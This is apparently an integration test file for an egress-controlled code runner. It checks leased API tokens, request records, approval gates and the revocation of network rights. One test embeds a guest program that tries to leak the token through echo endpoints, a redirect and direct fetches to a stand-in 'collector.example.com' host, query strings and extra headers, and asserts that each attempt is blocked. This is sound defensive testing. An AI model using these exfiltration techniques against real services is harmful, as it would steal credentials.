import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Entry, RunCalls, RunView } from "../../sdk/src/types.ts";
import { type DnsServer, openDnsServer } from "../fixtures/dns_server.ts";
import { eventually } from "../fixtures/eventually.ts";
import { peopleOf, type ServedPeople } from "../fixtures/served_people.ts";
import { startServer, type TestServer } from "../fixtures/server.ts";
import { openUpstreams, type Upstreams } from "../fixtures/upstreams.ts";

/**
 * What leaves runs, from outside: the built server, guests in real isolates, a name server and destinations of the test's
 * own on addresses of loopback.
 */

const TOKEN = "tkn-7Qd1wPq9XvR4mZs2";
const TRACKER = "tracker.example.com";
const COLLECTOR = "collector.example.com";
/** From a change until connections that it forbids are closed; what a busy machine adds included. */
const CUT_MS = 3_000;
const DAY_MS = 86_400_000;

let names: DnsServer;
let upstreams: Upstreams;
let server: TestServer;
let people: ServedPeople;
let port: number;
let collector: number;
/** What the tracker was asked, and what came to the other place. */
let asked: { method: string; url: string; authorization: string | undefined }[];
let collected: string[];
/** Answers that go on until the test, or somebody on the way, ends them. */
let streams: Set<ServerResponse>;

const rule = (more: object = {}) => ({
  id: "issues",
  hosts: [TRACKER],
  protocol: "http",
  ports: [port],
  methods: ["GET"],
  paths: ["/v1/*"],
  private: true,
  addresses: ["127.0.0.2"],
  secret: { name: "tracker-token", slot: "bearer" },
  ...more,
});
const contract = (name: string, more: object) => ({ kind: "Contract", name, ...more });
const ISSUES = Array.from({ length: 7 }, (_none, n) => ({
  number: n + 1,
  title: `Issue ${n + 1}`,
  labels: n % 3 === 0 ? ["bug"] : n % 3 === 1 ? ["bug", "ui"] : [],
  state: n < 4 ? "open" : "closed",
  opened_at: n * DAY_MS,
  closed_at: n < 4 ? null : (2 * n + 1) * DAY_MS,
}));
const PAGE = 3;

/** The tracker: pages of issues, and every way in which a server may give away what it was sent. */
function track(request: IncomingMessage, response: ServerResponse): void {
  const { method = "", url = "", headers } = request;
  const { authorization } = headers;
  asked.push({ method, url, authorization });
  const { pathname, searchParams } = new URL(url, "http://tracker");
  const said = `you sent ${authorization}`;
  if (pathname === "/v1/echo") return void response.end(said);
  if (pathname === "/v1/echo-base64") return void response.end(Buffer.from(said).toString("base64"));
  if (pathname === "/v1/echo-header") return void response.writeHead(200, { "x-seen": said }).end("nothing");
  if (pathname === "/v1/echo-error") return void response.writeHead(500).end(said);
  if (pathname === "/v1/away") {
    return void response.writeHead(302, { location: `http://${COLLECTOR}:${collector}/take` }).end();
  }
  if (pathname === "/v1/stream") {
    streams.add(response);
    response.on("close", () => streams.delete(response));
    // More than is held back of an answer that is searched for the secret.
    return void response.writeHead(200).write("first ".repeat(4_096));
  }
  if (authorization !== `Bearer ${TOKEN}`) return void response.writeHead(401).end(JSON.stringify({ code: "WHO" }));
  const page = Number(searchParams.get("page"));
  const next = page * PAGE < ISSUES.length ? { link: `<?page=${page + 1}>; rel="next"` } : {};
  response.writeHead(200, { "content-type": "application/json", ...next });
  response.end(JSON.stringify(ISSUES.slice((page - 1) * PAGE, page * PAGE)));
}

beforeAll(async () => {
  [asked, collected, streams] = [[], [], new Set()];
  names = await openDnsServer();
  names.addresses(TRACKER, ["127.0.0.2"]);
  names.addresses(COLLECTOR, ["127.0.0.3"]);
  upstreams = openUpstreams();
  port = await upstreams.http(track, "127.0.0.2");
  collector = await upstreams.http(({ headers }, answer) => {
    collected.push(JSON.stringify(headers));
    answer.end("taken");
  }, "127.0.0.3");
  server = await startServer({ config: { egress: { resolvers: [names.address] } } });
  people = await peopleOf(server);
  await server.json("/v1/secrets/tracker-token", { method: "PUT", json: { value: TOKEN } });
  await people.apply("tracker", contract("tracker", { extends: "read-only", egress: [rule()] }));
  // The example's own, but for where its tracker is.
  const here = `protocol: http\n    ports: [${port}]\n    private: true\n    addresses: ["127.0.0.2"]`;
  await people.apply("issue-report", example("contract.yaml").replace("protocol: https", here));
}, 60_000);
afterAll(async () => {
  await server?.dispose();
  await upstreams.close();
  await names.close();
});
beforeEach(() => {
  asked = [];
  collected = [];
});

const example = (name: string) => readFileSync(new URL(`../../examples/issue-report/${name}`, import.meta.url), "utf8");
const origin = () => `http://${TRACKER}:${port}`;
const submit = (code: object, more: object = {}, status = 200) =>
  server.json<RunView>("/v1/runs", { json: { code, contract: "tracker", ...more } }, status);
const logOf = async (id: string) => (await server.request(`/v1/runs/${id}/logs`)).text();
const entriesOf = async (ref: string) =>
  (await server.json<{ items: Entry[] }>(`/v1/evidence/entries?ref=${ref}&limit=200`)).items;
const running = (id: string) =>
  eventually(async () => (await server.json<RunView>(`/v1/runs/${id}`)).state === "running", "the run to be running");

describe("a program that reads an API with a token that it never holds", () => {
  it("gets all pages, and the record names host, method, class of path and counts", async () => {
    const modules = Object.fromEntries(["main.ts", "tracker.ts", "report.ts"].map((name) => [name, example(name)]));
    const input = { origin: origin(), project: "web", now: 10 * DAY_MS };
    const run = await submit({ entry: "main.ts", modules }, { contract: "issue-report", input });
    expect(run.termination, JSON.stringify(run)).toBe("completed");
    expect(run.result).toEqual({
      issues: 7,
      open: 4,
      closed: 3,
      open_by_label: [
        ["bug", 3],
        ["(none)", 1],
        ["ui", 1],
      ],
      oldest: [0, 1, 2, 3].map((n) => ({ number: n + 1, title: `Issue ${n + 1}`, days: 10 - n })),
      median_days_to_close: 6,
    });
    expect(asked).toEqual(
      [1, 2, 3].map((page) => ({
        method: "GET",
        url: `/v1/projects/web/issues?page=${page}`,
        authorization: `Bearer ${TOKEN}`,
      })),
    );
    const path = "/v1/projects/*/issues";
    const row = { host: TRACKER, method: "GET", path, rule: "issues", verdict: "allowed", count: 3 };
    expect(run.egress).toEqual([expect.objectContaining(row)]);
    const entries = await entriesOf(run.id);
    expect(entries.at(-1)).toMatchObject({ kind: "run.ended", data: { egress: [row] } });
    expect(entries.find(({ kind }) => kind === "lease.issued")?.data).toMatchObject({ secret: "tracker-token" });
    const calls = await server.json<RunCalls>(`/v1/runs/${run.id}/egress`);
    expect([calls.rows, calls.lines.length]).toEqual([run.egress, 3]);
    expect(JSON.stringify([entries, calls, run, await logOf(run.id)])).not.toContain(TOKEN);
  });

  it("cannot get at the token by its environment, by echoes, errors, logs or another host", async () => {
    const source = `
      const tell = async (what) => { try { return await what(); } catch (error) { return String(error?.stack ?? error); } };
      const read = async (answer) => [answer.status, [...answer.headers], await answer.text()];
      export default async ({ origin, collector }, env) => {
        const headers = { authorization: "Bearer " + env.TRACKER_TOKEN };
        const seen = { env: { ...env } };
        for (const path of ["echo", "echo-base64", "echo-header", "echo-error"]) {
          seen[path] = await tell(async () => read(await fetch(origin + "/v1/" + path, { headers })));
        }
        seen.away = await tell(async () => read(await fetch(origin + "/v1/away", { headers })));
        seen.there = await tell(async () => read(await fetch(collector, { headers })));
        seen.query = await tell(async () => read(await fetch(origin + "/v1/x?t=" + env.TRACKER_TOKEN)));
        seen.other = await tell(async () => read(await fetch(origin + "/v1/x", { headers: { "x-key": env.TRACKER_TOKEN } })));
        console.log(JSON.stringify(seen), headers, env);
        return seen;
      };`;
    const input = { origin: origin(), collector: `http://${COLLECTOR}:${collector}/` };
    const run = await submit({ source }, { input });
    expect(run.termination, JSON.stringify(run)).toBe("completed");
    // The canary: the tracker had it each time that it gave it away.
    const given = asked.filter(({ url }) => url.startsWith("/v1/echo")).map(({ authorization }) => authorization);
    expect(given).toEqual([1, 2, 3, 4].map(() => `Bearer ${TOKEN}`));
    const result = run.result as Record<string, unknown>;
    expect(result["env"]).toEqual({ TRACKER_TOKEN: expect.stringMatching(/^gl_[0-9a-z]{38}$/) });
    // A head that gives it away is answered instead; of a body that does nothing is whole, and the record says why.
    expect(JSON.stringify(result["echo-header"])).toContain("EGRESS_SECRET_ECHO");
    for (const path of ["echo", "echo-base64", "echo-error"]) expect(result[path], path).toMatch(/^Error: /);
    const echoes = (run.egress ?? []).filter(({ code }) => code === "EGRESS_SECRET_ECHO");
    expect(echoes.reduce((sum, { count }) => sum + count, 0)).toBe(4);
    for (const path of ["query", "other"]) expect(JSON.stringify(result[path]), path).toContain("LEASE_SCOPE");
    const everything = JSON.stringify([run, await logOf(run.id), await entriesOf(run.id), server.log]);
    for (const form of [
      TOKEN,
      Buffer.from(TOKEN).toString("base64").slice(2, -3),
      Buffer.from(TOKEN).toString("hex"),
    ]) {
      expect(everything).not.toContain(form);
    }
    expect(collected).toEqual([]);
  });
});

describe("a run that was granted too little", () => {
  it("is told the narrowest rule that would let its call out", async () => {
    const source = `export default async (url) => {
      const answer = await fetch(url, { method: "POST", body: "{}" });
      return [answer.status, answer.headers.get("gantry-egress"), await answer.json()];
    };`;
    const run = await submit({ source }, { input: `${origin()}/v1/issues` });
    const [status, header, problem] = run.result as [number, string, Record<string, unknown>];
    expect([status, header, problem["code"]]).toEqual([403, "denied; code=EGRESS_METHOD", "EGRESS_METHOD"]);
    expect(problem["next_steps"]).toEqual([
      expect.objectContaining({
        kind: "contract.egress.rule",
        needs: "contract-change",
        rule: expect.objectContaining({
          hosts: [TRACKER],
          protocol: "http",
          ports: [port],
          methods: ["POST"],
          paths: ["/v1/issues"],
        }),
      }),
    ]);
    expect(run.egress).toEqual([expect.objectContaining({ method: "POST", verdict: "denied", code: "EGRESS_METHOD" })]);
    expect(asked).toEqual([]);
  });
});

it("a run never reaches Gantry itself, whatever its contract grants", async () => {
  const own = Number(new URL(server.url).port);
  const egress = [{ hosts: ["127.0.0.1"], protocol: "http", ports: [own], private: true, addresses: ["127.0.0.1"] }];
  await people.apply("inward", contract("inward", { extends: "read-only", egress }));
  const source =
    "export default async (url) => { const a = await fetch(url); return [a.status, (await a.json()).code]; };";
  const run = await submit({ source }, { contract: "inward", input: `${server.url}/healthz` });
  expect(run.result, JSON.stringify(run)).toEqual([403, "EGRESS_SELF"]);
});

describe("a privileged run", () => {
  it("has its lease, and what that is for, by what people approved, and not before", async () => {
    const data = { reads: ["public"], writes: ["public"] };
    const egress = [rule({ methods: ["GET", "POST"] })];
    await people.apply("change", contract("change", { extends: "production", require: [], data, egress }));
    const source = `export default async (url, env) => {
      const headers = { authorization: "Bearer " + env.TRACKER_TOKEN };
      const answers = [await fetch(url, { headers }), await fetch(url, { method: "POST", body: "{}", headers })];
      return answers.map(({ status }) => status);
    };`;
    const json = {
      code: { source },
      contract: "change",
      target: "web",
      why: "to see",
      input: `${origin()}/v1/x?page=1`,
    };
    const parked = await server.json<RunView>("/v1/runs", { json, token: people.agent }, 202);
    expect([parked.state, asked]).toEqual(["waiting_approval", []]);
    const { items } = await server.json<{ items: { subject: string }[] }>("/v1/leases");
    expect(items.filter(({ subject }) => subject === parked.id)).toEqual([]);

    await people.approve(parked.approval ?? "");
    const run = await server.json<RunView>(`/v1/runs/${parked.id}?wait_ms=30000`);
    expect(run.result, JSON.stringify(run)).toEqual([200, 200]);
    expect(asked.map(({ method, authorization }) => [method, authorization])).toEqual([
      ["GET", `Bearer ${TOKEN}`],
      ["POST", `Bearer ${TOKEN}`],
    ]);
    const entries = await entriesOf(run.id);
    const kinds = ["approval.executed", "run.admitted", "lease.issued", "effect.intended", "effect.ended", "run.ended"];
    expect(entries.map(({ kind }) => kind).filter((kind) => kinds.includes(kind))).toEqual(kinds);
    for (const kind of ["lease.issued", "effect.intended"]) {
      expect(entries.find((entry) => entry.kind === kind)?.data["approval"], kind).toBe(parked.approval);
    }
  });
});

/** Opens an answer that does not end, then tells what cuts it off and what the next call comes to. */
const WATCHES = `export default async (origin, env) => {
  const headers = { authorization: "Bearer " + env.TRACKER_TOKEN };
  const stream = async () => (await fetch(origin + "/v1/stream", { headers })).text();
  const cut = await stream().then(() => "whole", (error) => String(error));
  const next = await fetch(origin + "/v1/issues?page=1", { headers });
  return [cut, (await next.json()).code];
};`;

describe("a right that is taken back while a run uses it", () => {
  const watched = async (contract: string) => {
    const { id } = await submit({ source: WATCHES }, { contract, input: origin(), wait_ms: 0 }, 202);
    await running(id);
    await eventually(() => streams.size === 1, "the stream to be open");
    return id;
  };
  const closed = async (from: number) => {
    await eventually(() => streams.size === 0, "the stream to be cut", CUT_MS);
    return performance.now() - from;
  };
  const ended = async (id: string) => {
    const run = await server.json<RunView>(`/v1/runs/${id}?wait_ms=30000`);
    expect(run.termination, JSON.stringify(run)).toBe("completed");
    return run.result;
  };

  it("as a lease, closes its connections, and its next call is refused", async () => {
    const id = await watched("tracker");
    const { items } = await server.json<{ items: { id: string; subject: string }[] }>("/v1/leases");
    const lease = items.find(({ subject }) => subject === id)?.id;
    const from = performance.now();
    expect((await server.request(`/v1/leases/${lease}`, { method: "DELETE" })).status).toBe(204);
    expect(await closed(from)).toBeLessThan(CUT_MS);
    expect(await ended(id)).toEqual([expect.not.stringMatching(/^whole$/), "LEASE_REVOKED"]);
  });

  it("as a rule of its contract, too", async () => {
    await people.apply("shrinking", contract("shrinking", { extends: "read-only", egress: [rule()] }));
    const id = await watched("shrinking");
    const from = performance.now();
    await people.apply(
      "shrinking",
      contract("shrinking", { extends: "read-only", egress: [rule({ paths: ["/v2/*"] })] }),
    );
    expect(await closed(from)).toBeLessThan(CUT_MS + 1_000);
    expect(await ended(id)).toEqual([expect.not.stringMatching(/^whole$/), "POLICY_NO_PERMIT"]);
  });

  it("as a host that the tenant denies, too", async () => {
    const { settings_rev } = await server.json<{ settings_rev: number }>("/v1/tenant");
    const id = await watched("tracker");
    const from = performance.now();
    const headers = { "if-match": `"${settings_rev}"` };
    await server.json("/v1/tenant", { method: "PATCH", headers, json: { egress_deny: [TRACKER] } });
    expect(await closed(from)).toBeLessThan(CUT_MS);
    expect(await ended(id)).toEqual([expect.not.stringMatching(/^whole$/), "EGRESS_HOST"]);
  });
});
